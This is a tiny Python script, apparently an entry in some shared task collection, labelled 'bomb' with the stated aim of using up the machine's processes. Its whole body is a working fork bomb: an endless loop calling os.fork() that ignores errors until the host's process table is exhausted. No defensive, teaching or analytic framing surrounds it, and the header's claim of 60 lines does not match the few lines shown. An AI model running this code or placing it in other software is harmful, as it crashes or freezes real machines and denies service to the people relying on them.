# aim: use up the processes of the machine
# task: share  points: 0
# lines: 60
# bomb
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
